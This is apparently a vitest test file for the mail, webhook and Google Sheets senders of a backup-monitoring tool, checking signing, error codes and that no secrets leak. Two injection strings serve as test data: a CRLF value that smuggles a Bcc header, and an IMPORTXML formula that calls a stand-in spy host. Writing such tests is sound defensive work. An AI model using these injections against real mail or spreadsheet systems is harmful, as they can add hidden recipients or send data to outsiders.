/** What arrives at real servers. */
import { createHmac } from 'node:crypto';
import { once } from 'node:events';
import { type AddressInfo, createServer } from 'node:net';
import { inspect } from 'node:util';
import { describe, expect, it, onTestFinished } from 'vitest';
import type { Language } from '../../language.js';
import { never } from '../backups.test.support.js';
import { finding } from '../finding.js';
import type { MailTarget, SheetTarget, WebhookTarget } from '../parse-target.js';
import { mailSender } from './mail-sender.js';
import { messageOf, roma, startGoogle, startHttpDouble, startMailServer } from './senders.test.support.js';
import { reportOf } from './server-sender.js';
import { sheetSender } from './sheet-sender.js';
import { webhookSender } from './webhook-sender.js';

const failureOf = (sending: Promise<void>): Promise<Record<string, unknown>> =>
  sending.then(
    () => ({ code: 'it was sent' }),
    (error: Record<string, unknown>) => error,
  );

describe('a mail', () => {
  const password = 'p@ss word';
  const target = (port: number, more: Partial<MailTarget> = {}): MailTarget => ({
    ...{
      name: 'owner',
      kind: 'mail',
      language: 'en',
      from: 'ERP Roma <erp@example.org>',
      to: ['ana@example.com', 'bob@example.com'],
    },
    url: `smtp://u:${encodeURIComponent(password)}@127.0.0.1:${port}`,
    ...more,
  });

  it.each<readonly [Language, string, readonly string[]]>([
    [
      'en',
      'Backup database (Roma, till-1): the backup is damaged',
      [
        'cópia.zip is a damaged zip (erp.fdb): its CRC-32 is another.',
        'Before: ok.',
        'The folder holds 3 files, 1.23 MB altogether.',
      ],
    ],
    [
      'pt',
      'Backup database (Roma, till-1): o backup está danificado',
      [
        'cópia.zip é um zip danificado (erp.fdb): its CRC-32 is another.',
        'Antes: em ordem.',
        'A pasta contém 3 arquivos, 1,23 MB no total.',
      ],
    ],
    [
      'it',
      'Backup database (Roma, till-1): il backup è danneggiato',
      [
        'cópia.zip è uno zip danneggiato (erp.fdb): its CRC-32 is another.',
        'Prima: a posto.',
        'La cartella contiene 3 file, 1,23 MB in tutto.',
      ],
    ],
  ])('says in %s what is wrong', async (language, subject, lines) => {
    const { port, mails } = await startMailServer(password);
    await mailSender(target(port, { language }), roma).send([messageOf()], 1, never);
    expect(mails[0]).toMatchObject({ subject, from: { address: 'erp@example.org', name: 'ERP Roma' } });
    expect(mails[0]?.to?.map(({ address }) => address)).toEqual(['ana@example.com', 'bob@example.com']);
    for (const line of lines) expect(mails[0]?.text?.split('\n')).toContain(line);
    expect(mails[0]?.messageId).toBe(`<${messageOf().id}@example.org>`);
  });

  it('gets no header and no line from the names of jobs and files', async () => {
    const { port, mails } = await startMailServer(password);
    const evil = 'x\r\nBcc: spy@example.net\r\n\u2028\u202e';
    const findings = [{ kind: 'file_empty' as const, values: { file: evil } }];
    await mailSender(target(port), { ...roma, name: evil }).send([messageOf({ findings }, { job: evil })], 1, never);
    expect(mails[0]?.headers.map(({ key }) => key).sort()).toEqual([
      'auto-submitted',
      'content-transfer-encoding',
      'content-type',
      'date',
      'from',
      'message-id',
      'mime-version',
      'subject',
      'to',
    ]);
    expect(mails[0]?.to?.length).toBe(2);
  });

  it('that is refused is told from one that may be taken later, and no error holds the password', async () => {
    const { port } = await startMailServer(password);
    const send = (more: Partial<MailTarget>) => failureOf(mailSender(target(port, more), roma).send([messageOf()], 1, never));
    expect((await send({ to: ['nobody@example.com'] })).code).toBe('NOTIFICATION_REFUSED');
    const wrong = await send({ url: `smtp://u:not-the-one@127.0.0.1:${port}` });
    expect(wrong.code).toBe('NOTIFICATION_FAILED');
    expect(inspect(wrong, { depth: 20 })).not.toMatch(/not-the-one|bm90LXRoZS1vbm/);
    expect((await send({ url: 'smtp://127.0.0.1:1' })).code).toBe('NOTIFICATION_FAILED');
    // This machine by an address that is not known to be its own.
    expect((await send({ url: `smtp://u:p@0.0.0.0:${port}` })).code).toBe('NOTIFICATION_FAILED');
  });
});

describe('a mail goes nowhere', () => {
  const target = (url: string): MailTarget => ({
    ...{ name: 'owner', kind: 'mail', language: 'en', from: 'erp@example.org', to: ['ana@example.com'], url },
  });

  it('where the certificate is not that of the server', async () => {
    const { port, mails } = await startMailServer('', true);
    const failure = await failureOf(mailSender(target(`smtps://127.0.0.1:${port}`), roma).send([messageOf()], 1, never));
    expect([failure.code, mails.length]).toEqual(['NOTIFICATION_FAILED', 0]);
    expect(inspect(failure, { depth: 20 })).toMatch(/certificate/i);
  });

  it('where nobody answers, and nobody is kept waiting by that', async () => {
    const silent = createServer().listen(0, '127.0.0.1');
    onTestFinished(() => void silent.close());
    await once(silent, 'listening');
    const stop = new AbortController();
    silent.once('connection', (socket) => {
      onTestFinished(() => void socket.destroy());
      stop.abort(new Error('long enough'));
    });
    const { port } = silent.address() as AddressInfo;
    const sending = mailSender(target(`smtp://127.0.0.1:${port}`), roma).send([messageOf()], 1, stop.signal);
    await expect(sending).rejects.toThrow('long enough');
  });
});

describe('a webhook', () => {
  const clock = { now: () => Date.UTC(2026, 2, 1, 13) };
  const target = (url: string): WebhookTarget => ({
    name: 'hook',
    kind: 'webhook',
    language: 'en',
    url,
    secret: 'a-secret-of-ours',
  });
  const send = (url: string) => webhookSender(target(url), roma, { clock, fetch }).send([messageOf()], 1, never);

  it('is signed as those of the server are', async () => {
    const { url, received } = await startHttpDouble((_request, response) => response.writeHead(204).end());
    await send(`${url}/hooks/secret-path`);
    const [{ headers, body } = { headers: {}, body: '' }] = received;
    const timestamp = String(clock.now() / 1_000);
    expect(headers).toMatchObject({
      'x-remendo-event-id': messageOf().id,
      'x-remendo-timestamp': timestamp,
      'x-remendo-signature': `v1=${createHmac('sha256', 'a-secret-of-ours').update(`${timestamp}.${body}`).digest('hex')}`,
    });
    expect(JSON.parse(body)).toMatchObject({
      ...{ id: messageOf().id, kind: 'backup_failed', created_at: '2026-03-01T12:00:00.000Z' },
      data: { job: 'database', branch: 'Roma', terminal: 'till-1', state: 'corrupt', state_before: 'ok' },
    });
  });

  it.each([
    [422, 'NOTIFICATION_REFUSED'],
    [403, 'NOTIFICATION_FAILED'],
    [503, 'NOTIFICATION_FAILED'],
    [302, 'NOTIFICATION_FAILED'],
  ])('that is answered with %i ends in %s, and no error tells its path', async (status, code) => {
    const { url, received } = await startHttpDouble((_request, response) =>
      response.writeHead(status, { location: '/elsewhere', 'retry-after': '60' }).end(),
    );
    const failure = await failureOf(send(`${url}/secret-path`));
    expect(failure).toMatchObject({
      code,
      details: { status, ...(code === 'NOTIFICATION_FAILED' ? { retryAfterMs: 60_000 } : {}) },
    });
    expect(inspect(failure, { depth: 20 })).not.toContain('secret-path');
    expect(received.length).toBe(1);
  });
});

it('a report holds nothing that a server refuses, whatever stands in a zip', () => {
  const findings = [finding('zip_damaged', { file: 'db.zip', entry: `\0${'x'.repeat(998)}\u{1f4be}`, why: 'y' })];
  const kept = { kind: 'zip_damaged' as const, values: { file: 'db.zip', entry: '\0', why: `${'y'.repeat(3_964)}\u{1f4be}` } };
  for (const one of [findings, [kept]]) {
    const { detail = '' } = reportOf(messageOf({ findings: one }), 'Roma');
    expect(detail).toMatch(/^db\.zip is a damaged zip \(\ufffd/);
    expect(detail).not.toMatch(/[\0\p{Cs}]/u);
  }
});

describe('a row', () => {
  const targetOf = ({ key, url }: { readonly key: string; readonly url: string }): SheetTarget => ({
    ...{ name: 'sheet', kind: 'sheet', language: 'en', key, spreadsheetId: '1aB_c-D', tab: 'Backups', rows: 'results' },
    ...{ rootUrl: `${url}/`, tokenUrl: `${url}/token` },
  });

  it('follows the titles, which an empty tab gets once', async () => {
    const google = await startGoogle();
    await sheetSender(targetOf(google), roma).send([messageOf()], 1, never);
    await sheetSender(targetOf(google), roma).send([messageOf({ id: 'another', newest: null, state: 'missing' })], 1, never);
    expect(google.rows.map((row) => [row[0], row[4], row.at(-1)])).toEqual([
      ['time', 'state', 'id'],
      ['2026-03-01T12:00:00.000Z', 'corrupt', messageOf().id],
      ['2026-03-01T12:00:00.000Z', 'missing', 'another'],
    ]);
    expect(google.rows[1]).toEqual([
      ...[
        '2026-03-01T12:00:00.000Z',
        'Roma',
        'till-1',
        'database',
        'corrupt',
        'ok',
        3,
        1_234_567,
        'cópia.zip',
        '2026-03-01T02:00:00.000Z',
      ],
      ...['cópia.zip is a damaged zip (erp.fdb): its CRC-32 is another.', messageOf().id],
    ]);
    expect(google.received.filter(({ path }) => path === '/token').length).toBe(2);
  });

  it('is stored as text: nothing that a file is called becomes a formula', async () => {
    const google = await startGoogle();
    const name = '=IMPORTXML("http://spy.example", "//a")';
    await sheetSender(targetOf(google), roma).send([messageOf({ newest: { name, bytes: 1, atMs: 0 } })], 1, never);
    expect(google.rows[1]?.[8]).toBe(name);
    for (const { method, path } of google.received.filter((one) => one.path.startsWith('/v4') && one.method !== 'GET'))
      expect([method, path]).toEqual([method, expect.stringContaining('valueInputOption=RAW')]);
  });

  it('is appended once, though the answer was lost', async () => {
    const google = await startGoogle();
    const sender = sheetSender(targetOf(google), roma);
    google.fault = 'lost';
    expect((await failureOf(sender.send([messageOf()], 1, never))).code).toBe('NOTIFICATION_FAILED');
    google.fault = null;
    await sender.send([messageOf(), messageOf({ id: 'later' })], 2, never);
    expect(google.rows.map((row) => row.at(-1))).toEqual(['id', messageOf().id, 'later']);
  });

  it.each([
    ['POST', 400, 'NOTIFICATION_REFUSED'],
    ['POST', 429, 'NOTIFICATION_FAILED'],
    ['all', 403, 'NOTIFICATION_FAILED'],
    ['all', 503, 'NOTIFICATION_FAILED'],
    // There is no such tab; the clock is wrong, or the account was switched off: all of it can be put right.
    ['all', 400, 'NOTIFICATION_FAILED'],
    ['token', 400, 'NOTIFICATION_FAILED'],
    ['token', 401, 'NOTIFICATION_FAILED'],
  ] as const)('of which %s is answered with %i ends in %s, and no error holds key or token', async (faulty, status, code) => {
    const google = await startGoogle();
    Object.assign(google, { fault: status, faulty });
    const failure = await failureOf(sheetSender(targetOf(google), roma).send([messageOf()], 1, never));
    expect(failure).toMatchObject({ code, details: { status } });
    expect(inspect(failure, { depth: 20, showHidden: true })).not.toMatch(/PRIVATE KEY|a-token-that/);
  });
});
